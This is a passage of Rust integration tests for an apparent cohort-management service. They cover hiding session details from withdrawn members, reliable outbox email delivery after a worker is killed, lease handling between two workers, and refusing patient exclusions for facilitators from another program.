        .text()
        .await
        .expect("html")
        .contains("meet.example.org"));

    let withdrawn = app
        .request(
            reqwest::Method::DELETE,
            &format!("/api/v1/cohorts/{}/members/{}", s.cohort, ben.id),
            Some(&s.lead),
            Some(&json!({"reason": "moved away"})),
        )
        .await;
    assert_eq!(withdrawn.status(), 200);

    let page = app.client.get(app.url(&path)).send().await.expect("page");
    assert_eq!(page.status(), 409);
    let html = page.text().await.expect("html");
    assert!(html.contains("no longer part of this group"), "{html}");
    for hidden in [
        "meet.example.org",
        "be there",
        "make it",
        "Ana Quill",
        "Ben Rowan",
    ] {
        assert!(
            !html.contains(hidden),
            "{hidden} shown to a former member: {html}"
        );
    }
    let answered = form_post(&app, &format!("{path}/rsvp"), "response=yes").await;
    assert_eq!(answered.status(), 409);
    assert!(answered
        .text()
        .await
        .expect("html")
        .contains("no longer part of this group"));
    let cohort = app
        .get_json(&format!("/api/v1/cohorts/{}", s.cohort), &s.lead)
        .await;
    assert_eq!(cohort["sessions"][0]["rsvp"], json!({"yes": 0, "no": 0}));
}

fn outbox_sent(app: &crate::helpers::TestApp) -> i64 {
    use cohorts::db::schema::outbox;
    use diesel::prelude::*;
    outbox::table
        .filter(outbox::status.eq("sent"))
        .count()
        .get_result(&mut *app.conn())
        .expect("count")
}

#[tokio::test]
async fn after_kill_9_a_restarted_worker_with_the_default_lease_delivers_everything_within_a_minute(
) {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let (program, _) = app.program_with_lead().await;
    let total = 300;
    crate::mail::queue_invitations(&app, program, total);
    app.mail.set_delay(std::time::Duration::from_millis(10));
    // No COHORTS_WORKER_LEASE_SECS: the default lease.
    let start = || crate::mail::standalone_worker(&app, None);
    let mut first = start();
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(30);
    while app.mail.count() < 60 {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the worker never sent"
        );
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    first.kill().expect("SIGKILL");
    first.wait().expect("reaped");
    let at_kill = app.mail.count();
    assert!(at_kill < total, "killed mid-batch ({at_kill} of {total})");

    let restarted = std::time::Instant::now();
    let mut second = start();
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(60);
    while outbox_sent(&app) < total as i64 && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let took = restarted.elapsed();
    second.kill().expect("stop");
    second.wait().expect("reaped");
    assert_eq!(
        outbox_sent(&app),
        total as i64,
        "everything sent within 60 s of the restart"
    );
    let (received, distinct, duplicates) = crate::mail::tally(&app.mail.messages());
    eprintln!(
        "kill -9 with the default lease: all {total} sent {took:?} after the restart; \
         {received} received, {duplicates} duplicates (killed after {at_kill})"
    );
    assert_eq!(distinct, total, "every message delivered");
    // Only a message the SMTP server accepted in the instant before the kill, not yet
    // marked sent, can go out again (with the same Message-ID).
    assert!(
        duplicates <= cohorts::email::transport::SMTP_POOL_SIZE as usize,
        "{duplicates} duplicates"
    );
}

#[tokio::test]
async fn a_send_slower_than_the_lease_is_not_taken_over_by_a_second_live_worker() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let (program, _) = app.program_with_lead().await;
    crate::mail::queue_invitations(&app, program, 1);
    let lease = std::time::Duration::from_secs(3);
    let config = cohorts::worker::WorkerConfig { lease, ..quick() };
    let slow = manual_worker(&app, config.clone());
    let other = manual_worker(&app, config);
    // The SMTP server takes 8 s (more than twice the lease) to accept the message.
    app.mail.set_delay(std::time::Duration::from_secs(8));
    let sending = tokio::spawn(async move { slow.pass().await.expect("pass") });
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    // Meanwhile the second worker polls, through and past the lease.
    let until = tokio::time::Instant::now() + std::time::Duration::from_secs(6);
    let mut taken_over = 0;
    while tokio::time::Instant::now() < until {
        taken_over += other.pass().await.expect("pass").sent;
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    let first = sending.await.expect("joined");
    assert_eq!(first.sent, 1, "the slow worker sent it");
    assert_eq!(taken_over, 0, "the second worker did not take it over");
    app.mail.set_delay(std::time::Duration::ZERO);
    other.pass().await.expect("pass");
    let (received, distinct, duplicates) = crate::mail::tally(&app.mail.messages());
    assert_eq!((received, distinct, duplicates), (1, 1, 0));
}

#[tokio::test]
async fn a_patient_cannot_be_excluded_from_another_programs_facilitator() {
    let app = spawn_app().await;
    let (program, lead) = app.program_with_lead().await;
    let other_program = app.create_program("Another site").await;
    let ana = app
        .create_patient(&lead, program, "Ana", "ana@example.org")
        .await;
    let mut body = facilitator_body("elsewhere@example.org");
    body["program_ids"] = json!([other_program]);
    let outsider = app.create_facilitator(&body).await;
    let refused = app
        .post(
            &format!("/api/v1/patients/{ana}/exclusions"),
            &lead,
            &json!({"facilitator_id": outsider}),
        )
        .await;
    let error = assert_field_error(refused, "facilitator_id").await;
    assert_eq!(
        error["error"]["fields"]["facilitator_id"], "no such facilitator",
        "the same answer as for an id that does not exist"
    );
    let patient = app
        .get_json(&format!("/api/v1/patients/{ana}"), &lead)
        .await;
    assert_eq!(patient["exclusions"], json!([]), "nothing was stored");
}
